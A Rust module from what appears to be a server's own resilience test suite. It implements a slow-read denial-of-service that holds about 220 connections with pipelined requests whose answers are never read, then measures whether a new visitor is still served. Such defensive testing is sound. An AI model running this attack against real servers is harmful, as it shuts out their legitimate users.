//! Clients that ask for much and never read it.

use std::time::Instant;

use anyhow::Result;
use futures_util::FutureExt;
use hyper::Method;
use serde_json::Value;
use tokio::io::AsyncWriteExt;
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{Duration, sleep, timeout};

use super::visitor::Visitor;
use super::{Attack, Report, Target};

pub const ATTACK: Attack = Attack {
    name: "readers",
    summary: "takes every connection with requests whose answers it never reads",
    // Fewer places than usual, so that this machine can take them all; the times are as usual.
    settings: &[("ZASHIKI_LIMITS_SOCKETS", "200")],
    play: |target| play(target).boxed_local(),
};

/// How many connections the attacker tries to hold.
const SOCKETS: usize = 220;
/// Requests on each connection: more than the buffers of both ends hold.
const REQUESTS: usize = 10;
/// How long a bystander waits for an answer.
const PATIENCE: Duration = Duration::from_secs(5);
/// Longer than the server lets a connection stand still.
const UNTIL_FREE: Duration = Duration::from_secs(60);

async fn play(target: &Target) -> Result<Report> {
    let mut report = Report::default();
    let (before, millis_before) = visit(target).await;
    let began = Instant::now();
    let mut held = Vec::new();
    for _ in 0..SOCKETS {
        held.extend(mute(target).await);
    }
    let (mut visits, mut answered, mut freed) = (0, 0, None);
    let mut slowest = 0.0_f64;
    while began.elapsed() < UNTIL_FREE && (freed.is_none() || began.elapsed() < target.lasts) {
        let (served, millis) = visit(target).await;
        visits += 1;
        if served {
            answered += 1;
            slowest = slowest.max(millis);
            freed = freed.or(Some(began.elapsed().as_secs_f64()));
        }
        sleep(Duration::from_secs(1)).await;
    }
    report.row("a new visitor is served", before, answered == visits);
    report.row("answered after, ms (the slowest)", millis_before, slowest);
    report.row("served again, s after the attack began", 0, freed.map_or(Value::Null, Value::from));
    report.did("connections held", held.len());
    report.did("visits of the bystander", visits);
    report.did("of these turned away", visits - answered);
    Ok(report)
}

/// Returns true if a new visitor is served, and after how many milliseconds.
async fn visit(target: &Target) -> (bool, f64) {
    let asked = Instant::now();
    let mut visitor = Visitor::new(target.address, "203.0.113.1");
    let answer = timeout(PATIENCE, visitor.ask(Method::GET, "/api/lobby", Value::Null)).await;
    let served = matches!(answer, Ok(Ok(answer)) if answer.status.is_success());
    (served, asked.elapsed().as_secs_f64() * 1000.0)
}

/// A connection that asks and does not read.
async fn mute(target: &Target) -> Option<TcpStream> {
    let socket = TcpSocket::new_v4().ok()?;
    socket.set_recv_buffer_size(4096).ok()?;
    let mut stream = socket.connect(target.address).await.ok()?;
    let request = "GET /api/games/hostile/rules HTTP/1.1\r\nHost: x\r\n\r\n".repeat(REQUESTS);
    stream.write_all(request.as_bytes()).await.ok()?;
    Some(stream)
}
